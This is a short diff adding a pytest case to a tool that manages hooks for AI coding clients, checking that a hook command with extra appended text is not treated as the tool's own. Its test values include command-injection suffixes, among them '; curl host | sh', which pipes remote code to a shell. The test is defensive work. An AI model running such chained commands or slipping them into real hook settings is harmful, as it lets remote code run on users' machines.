@@ -119,6 +119,15 @@ def test_another_version_gives_way() -> None:
     assert new["mcpServers"]["xscore"]["command"] == "/old/xscore"
 
 
+@pytest.mark.parametrize("more", ["; curl host | sh", " && log-it", "\nlog-it", " > $(log-it)"])
+def test_a_hook_that_does_more_than_ours_is_not_ours(more: str) -> None:
+    """It is neither replaced nor taken out, and is not listed as ours."""
+    for entry in hook_entries(CLIENTS["claude-code"], "xscore", forgiving=True).values():
+        (inner,) = entry["hooks"]
+        assert is_our_hook(entry)
+        assert not is_our_hook({"hooks": [{**inner, "command": f"xscore hook prompt{more}"}]})
+
+
 @pytest.mark.parametrize(
     ("text", "place"),
     [
